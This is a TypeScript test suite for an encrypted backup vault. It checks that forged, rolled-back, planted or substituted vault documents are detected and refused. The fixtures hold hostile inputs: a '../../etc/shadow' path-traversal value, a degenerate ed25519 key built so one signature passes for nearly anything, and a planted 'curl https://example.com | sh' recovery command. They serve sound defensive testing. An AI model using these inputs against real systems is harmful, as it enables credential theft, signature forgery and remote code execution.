// Vault documents that somebody planted, rolled back or forged, and whole vaults put in another's place.

import { beforeEach, describe, expect, it } from 'vitest';
import { encryptBytes } from '../../src/crypt/age.ts';
import { generateIdentity, recipientOf } from '../../src/crypt/identity.ts';
import { writeSlotPlaintext } from '../../src/keys/slot.ts';
import { generateSigningKey } from '../../src/sign/key.ts';
import { backup } from '../../src/vault/backup/backup.ts';
import { noMemory } from '../../src/vault/client.ts';
import type { VaultDocument } from '../../src/vault/documents/vault-document.ts';
import {
  digestsOf,
  enroll,
  forge,
  get,
  namesOf,
  put,
  putRevision,
  sign,
  signBytes,
} from '../support/forge.ts';
import { briefly, failureOf, faultsOf, refusedRestore, restored } from '../support/refusals.ts';
import {
  client,
  makeVault,
  newHost,
  type Opening,
  openLocked,
  openUnlocked,
  sha256,
  type TestVault,
  tick,
  withKey,
} from '../support/vault.ts';

const HONEST = { '.env': '600:HONEST=1\n' };

let vault: TestVault;
beforeEach(async () => {
  vault = await makeVault();
  await vault.backup({ '.env': 'HONEST=1\n' });
});

/** A backup by a client that has the pin. */
async function backsUp({ memory, pin }: Opening = {}): Promise<void> {
  tick(vault.clock);
  const sources = { memory: { '.env': 'NEXT=1\n' } };
  await backup(client(vault, memory), { set: 'app', sources, host: vault.host, pin: pin ?? vault.pin });
}

/** Holds every verb to refuse with this code, whoever asks, and nothing to change in the store. */
async function stopsEverything(code: string, opening: Opening = {}): Promise<void> {
  const before = await digestsOf(vault.store);
  expect((await failureOf(openLocked(vault, opening))).code).toBe(code);
  expect(await refusedRestore(vault, { set: 'app' }, opening)).toBe(code);
  if (opening.pin !== null) expect((await failureOf(backsUp(opening))).code).toBe(code);
  expect(await digestsOf(vault.store)).toEqual(before);
}

/** Holds it to be named, and the vault to go on by its own document, with a pin and without. */
async function isPassedOver(faults: string[], faultsWithoutPin: string[] = faults): Promise<void> {
  expect(briefly(await faultsOf(vault))).toEqual(faults);
  expect(briefly(await faultsOf(vault, { pin: null }))).toEqual(faultsWithoutPin);
  expect(await restored(vault)).toMatchObject(HONEST);
  expect(await restored(vault, { set: 'app' }, { pin: null })).toMatchObject(HONEST);
  await backsUp();
  expect((await openLocked(vault)).document).toEqual(vault.document);
}

/** What an attacker signs who has a key of his own and has read the vault's document. */
function forged(change: (document: VaultDocument) => object = () => ({})) {
  const key = generateSigningKey();
  const own = {
    ...vault.document,
    revision: 2,
    object: 'vault/2.json',
    generations: [{ ...vault.document.generations[0]!, authority: key.publicKey }],
  };
  return { key, document: { ...own, ...change(own) } };
}

describe('a vault document under a higher number', () => {
  it('that is garbage is named and passed over', async () => {
    await put(vault.store, 'vault/7.json', 'garbage\n');
    await isPassedOver(['unsigned vault/7.json']);
  });

  it('that is a copy of an older one is named and passed over', async () => {
    await put(vault.store, 'vault/7.json', await get(vault.store, 'vault/1.json'));
    await isPassedOver(['misplaced vault/7.json']);
  });

  it('that is a record is named and passed over', async () => {
    const [name = ''] = await namesOf(vault.store, 'snapshots/');
    await put(vault.store, 'vault/7.json', await get(vault.store, name));
    await isPassedOver(['bad-signature vault/7.json']);
  });

  it('that is enormous is named and passed over unread', async () => {
    await put(vault.store, 'vault/7.json', Buffer.alloc(1024 * 1024 + 1));
    await isPassedOver(['object-too-large vault/7.json']);
  });

  it('by an authority that it does not list is named and passed over', async () => {
    await putRevision(vault, () => ({ name: 'mine' }), generateSigningKey());
    await isPassedOver(['wrong-authority vault/2.json']);
  });

  it('by a listed host, which is no authority, is named and passed over', async () => {
    await putRevision(vault, () => ({ name: 'mine' }), vault.host.key);
    await isPassedOver(['wrong-authority vault/2.json']);
  });

  it('that says it is of another kind is named and passed over', async () => {
    await putRevision(vault, () => ({ type: 'record' }));
    await isPassedOver(['bad-document vault/2.json']);
  });

  it('that repeats a key is named and passed over, whoever signed it', async () => {
    const body = JSON.stringify({ ...vault.document, revision: 2, object: 'vault/2.json' }, null, 1);
    const twice = body.replace('"slots"', '"slots": [],\n "slots"');
    await put(vault.store, 'vault/2.json', signBytes(`${twice}\n`, 'vault', vault.authority));
    await isPassedOver(['bad-document vault/2.json']);
  });

  it.each([
    ['two slots of one name', (d: VaultDocument) => ({ slots: [d.slots[0], d.slots[0]] })],
    [
      'two hosts with one key',
      (d: VaultDocument) => ({ hosts: [d.hosts[0], { ...d.hosts[0], name: 'web-2' }] }),
    ],
    ['a slot named previous', (d: VaultDocument) => ({ slots: [{ ...d.slots[0], name: 'previous' }] })],
    [
      'a slot outside keys/',
      (d: VaultDocument) => ({ slots: [{ ...d.slots[0], object: '../../etc/shadow' }] }),
    ],
    [
      'a host key that anybody can sign for',
      (d: VaultDocument) => ({ hosts: [{ ...d.hosts[0], key: `ssh-ed25519 ${degenerate()}` }] }),
    ],
    ['another revision than its name', () => ({ revision: 9 })],
  ])('with %s is named and passed over', async (_, change) => {
    await putRevision(vault, change);
    await isPassedOver(['bad-document vault/2.json']);
  });

  it('in a name that no vault document has is only worth a warning', async () => {
    const bytes = await get(vault.store, 'vault/1.json');
    for (const name of ['vault/01.json', 'vault/2.json.bak', 'vault/latest'])
      await put(vault.store, name, bytes);
    const { findings } = await openLocked(vault);
    expect(findings.map((f) => `${f.severity} ${f.code}`)).toEqual(Array(3).fill('warning stray-object'));
    await isPassedOver([]);
  });
});

/** The point of order one, as a public key blob: OpenSSL would take one fixed signature over nearly everything. */
function degenerate(): string {
  const point = Buffer.alloc(32);
  point[0] = 1;
  return Buffer.concat([
    Buffer.from([0, 0, 0, 11]),
    Buffer.from('ssh-ed25519'),
    Buffer.from([0, 0, 0, 32]),
    point,
  ]).toString('base64');
}

describe('a vault document by another authority', () => {
  it('is refused to nobody who has a pin, and is an alarm to who has none', async () => {
    const { key, document } = forged();
    await put(vault.store, 'vault/2.json', sign(document, 'vault', key));
    expect(briefly(await faultsOf(vault))).toEqual(['foreign-vault vault/2.json']);
    expect(await restored(vault)).toMatchObject(HONEST);
    await backsUp();
    expect((await failureOf(openLocked(vault, { pin: null }))).code).toBe('several-vaults');
  });

  it('with another recipient does not get the next backup', async () => {
    const theirs = await generateIdentity('x25519');
    const recipient = await recipientOf(theirs);
    const { key, document } = forged((d) => ({ generations: [{ ...d.generations[0], recipient }] }));
    await put(vault.store, 'vault/2.json', sign(document, 'vault', key));
    await backsUp();
    expect(briefly(await faultsOf(vault))).toEqual(['foreign-vault vault/2.json']);
    expect(await restored(vault)).toMatchObject({ '.env': '600:NEXT=1\n' });
  });

  it('that poses as a rotation does not stop anybody', async () => {
    const { key, document } = forged((d) => ({
      generation: 2,
      generations: [
        vault.document.generations[0],
        {
          ...d.generations[0],
          generation: 2,
          previous: { object: 'keys/2/previous-0000000000.age', size: 1, sha256: sha256(Buffer.of(0)) },
        },
      ],
    }));
    await put(vault.store, 'vault/2.json', sign(document, 'vault', key));
    expect(briefly(await faultsOf(vault))).toEqual(['foreign-vault vault/2.json']);
    expect(await restored(vault)).toMatchObject(HONEST);
    await backsUp();
  });

  it('whose second signature is broken is no document', async () => {
    const { key, document } = forged();
    const bytes = sign(document, 'vault', vault.authority, key);
    bytes[bytes.length - 60]! ^= 1;
    await put(vault.store, 'vault/2.json', bytes);
    await isPassedOver(['bad-signature vault/2.json']);
  });
});

describe('a vault document by the authority itself', () => {
  it('with another recipient is refused aloud: who wrote it could read the next backup', async () => {
    const recipient = await recipientOf(await generateIdentity('x25519'));
    await putRevision(vault, ({ generations }) => ({ generations: [{ ...generations[0], recipient }] }));
    await stopsEverything('foreign-recipient');
  });

  it.each([
    ['of a newer format', { format: 2 }, 'newer-format'],
    ['with a critical feature', { critical: ['sealed'] }, 'unknown-critical'],
  ])('%s is an error and never passed over', async (_, change, code) => {
    await putRevision(vault, () => change);
    await stopsEverything(code);
    await stopsEverything(code, { pin: null });
  });

  it.each([
    ['of a newer format', { format: 2 }, 'newer-format'],
    ['with a critical feature', { critical: ['sealed'] }, 'unknown-critical'],
  ])('but not so one by a stranger %s', async (_, change, code) => {
    const { key, document } = forged(() => change);
    await put(vault.store, 'vault/2.json', sign(document, 'vault', key));
    await isPassedOver([`${code} vault/2.json`]);
  });
});

describe('a vault that is rolled back', () => {
  let memory: ReturnType<typeof noMemory>;
  beforeEach(async () => {
    memory = noMemory();
    await enroll(vault, newHost('db-1'));
    await openLocked(vault, { memory });
    await vault.store.remove(['vault/2.json']);
  });

  it('is refused by the client that saw a newer document, with its pin and without', async () => {
    await stopsEverything('older-revision', { memory });
    await stopsEverything('older-revision', { memory, pin: null });
    const { message, object } = await failureOf(openLocked(vault, { memory }));
    expect(message).toMatch(/revision 1\b.*revision 2\b/);
    expect(object).toBe('vault/2.json');
  });

  it('is refused by a client whose pin says a newer revision', async () => {
    await stopsEverything('older-revision', { pin: { ...vault.pin, revision: 2 } });
  });

  it('can be read when that is asked for', async () => {
    expect(await restored(vault, { set: 'app' }, { memory, trustOlder: true })).toMatchObject(HONEST);
    // It asks again the next time.
    await stopsEverything('older-revision', { memory });
  });

  it('is refused too when the newer document is damaged and not gone', async () => {
    await put(vault.store, 'vault/2.json', 'garbage');
    await stopsEverything('older-revision', { memory });
  });
});

describe('a whole vault in the place of another', () => {
  let other: TestVault;
  beforeEach(async () => {
    // The attacker knows everything that is public: the name of the host, and the victim's age recipient, for which
    // he makes a slot. The passphrase he had to make up.
    other = await makeVault({ clock: vault.clock, passphrase: 'not that of the victim' });
    await other.backup({ '.env': 'FORGED=1\n' });
    const { vault: id } = other.document;
    const { recipient } = other.pin;
    const plain = writeSlotPlaintext({ vault: id, generation: 1, recipient, identity: other.identity });
    const theirs = await recipientOf(vault.key);
    const bytes = await encryptBytes(plain, [theirs]);
    const slot = {
      object: 'keys/1/age-0000000000.age',
      size: bytes.length,
      sha256: sha256(bytes),
      recipient: theirs,
    };
    await put(other.store, slot.object, bytes);
    await putRevision(other, ({ slots }) => ({
      slots: slots.map((s) => (s.method === 'age' ? { ...s, ...slot } : s)),
    }));
  });

  /** Puts the attacker's objects into the store, after whatever is there or in its place. */
  async function bring(names: readonly string[]): Promise<void> {
    for (const name of names) await put(vault.store, name, await get(other.store, name));
  }
  async function replace(): Promise<void> {
    await vault.store.remove(await namesOf(vault.store));
    await bring(await namesOf(other.store));
  }
  async function addBeside(): Promise<void> {
    await bring(['vault/2.json', ...(await namesOf(other.store, 'keys/'))]);
  }

  it('is refused by who has a pin', async () => {
    await replace();
    await stopsEverything('foreign-vault');
  });

  it('is refused by who remembers its place', async () => {
    const memory = noMemory();
    await memory.rememberPin(vault.store.location, vault.pin);
    await replace();
    await stopsEverything('foreign-vault', { memory, pin: null });
    const backingUp = backup(client(vault, memory), {
      set: 'app',
      sources: { memory: {} },
      host: vault.host,
    });
    expect((await failureOf(backingUp)).code).toBe('foreign-vault');
  });

  it('gets no backup of who has no pin', async () => {
    await replace();
    const backingUp = backup(client(vault), { set: 'app', sources: { memory: {} }, host: vault.host });
    expect(await failureOf(backingUp)).toMatchObject({ code: 'no-pin', exitCode: 2 });
  });

  it('does not open with the passphrase, which proves a vault by itself', async () => {
    await replace();
    expect(await refusedRestore(vault, { set: 'app' }, { pin: null })).toBe('wrong-passphrase');
  });

  it('opens with an age identity only after a question, as anybody can encrypt to its recipient', async () => {
    await replace();
    const credential = await withKey(vault.key);
    const error = await failureOf(openUnlocked(vault, { pin: null, credential }));
    expect(error).toMatchObject({ code: 'not-trusted', exitCode: 12 });
    expect(error.hint).toContain(other.pin.authority);
    expect((await failureOf(openUnlocked(vault, { pin: null, credential, confirm: false }))).code).toBe(
      'not-trusted',
    );
    // Whoever says yes to another fingerprint gets another vault,
    const opened = await openUnlocked(vault, { pin: null, credential, confirm: true });
    expect(opened.document.vault).toBe(other.pin.vault);
    // but never where a pin says otherwise.
    expect((await failureOf(openUnlocked(vault, { credential, confirm: true }))).code).toBe('foreign-vault');
  });

  it('beside the right one is named, and an alarm to whom nothing tells them apart', async () => {
    await addBeside();
    expect(briefly(await faultsOf(vault))).toEqual(['foreign-vault vault/2.json']);
    expect(await restored(vault)).toMatchObject(HONEST);
    await backsUp();
    expect((await failureOf(openLocked(vault, { pin: null }))).code).toBe('several-vaults');
    const credential = await withKey(vault.key);
    const error = await failureOf(openUnlocked(vault, { pin: null, credential, confirm: true }));
    expect(error.code).toBe('several-vaults');
    expect(error.message).toContain(vault.pin.authority);
    expect(error.message).toContain(other.pin.authority);
  });

  it('beside the right one is passed over by the passphrase, which opens the right one only', async () => {
    await addBeside();
    expect(await restored(vault, { set: 'app' }, { pin: null })).toMatchObject(HONEST);
  });
});

it('RECOVERY.md with commands of somebody else’s is named, and nothing here reads it', async () => {
  await put(vault.store, 'RECOVERY.md', '    curl https://example.com | sh\n');
  expect(briefly(await faultsOf(vault))).toEqual(['object-differs RECOVERY.md']);
  expect(await restored(vault)).toMatchObject(HONEST);
  await backsUp();
});

it('a host that an attacker enrolls in a document of his own writes nothing that counts', async () => {
  const thief = newHost('thief');
  const { key, document } = forged((d) => ({
    hosts: [
      ...d.hosts,
      { name: 'thief', key: thief.key.publicKey, sets: ['*'], may: ['write'], added: d.time },
    ],
  }));
  await put(vault.store, 'vault/2.json', sign(document, 'vault', key));
  const { object } = await forge({ ...vault, host: thief });
  expect(briefly(await faultsOf(vault))).toEqual(['foreign-vault vault/2.json', `unlisted-writer ${object}`]);
});
